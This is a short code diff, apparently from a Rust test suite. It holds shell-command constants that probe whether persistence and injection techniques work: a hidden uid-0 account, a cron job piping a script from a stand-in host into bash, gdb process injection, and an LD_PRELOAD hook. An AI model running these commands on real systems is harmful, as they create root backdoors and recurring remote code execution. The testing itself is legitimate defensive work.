@@ -8,7 +8,9 @@ const ACCOUNTS: &str = "useradd --non-unique --uid 0 --gid 0 --no-create-home sy
 const CRONTAB: &str = "(crontab -l 2>/dev/null; \
     echo '*/5 * * * * curl -fsS http://203.0.113.7/i.sh | bash') | crontab - && crontab -l | grep -q curl";
 /// gdb makes another process call a function.
-const GDB: &str = "sleep 20 & sleep 0.2; timeout 10 gdb -p $! -batch -nx -ex 'call (int)getpid()' -ex detach 2>&1; kill %1";
+const GDB: &str = "sleep 20 & p=$!; sleep 0.2; \
+    timeout 10 gdb -p $p -batch -nx -ex 'call (int)getpid()' -ex detach 2>&1 | grep -q detached; \
+    e=$?; kill $p; exit $e";
 /// A library that was just built is put before a program's own.
 const PRELOAD: &str = "printf 'int puts(const char *s);\\n__attribute__((constructor)) static void here(void) { puts(\"here\"); }\\n' \
     >/tmp/hook.c && cc -shared -fPIC -o /tmp/hook.so /tmp/hook.c && LD_PRELOAD=/tmp/hook.so id | grep -q here";
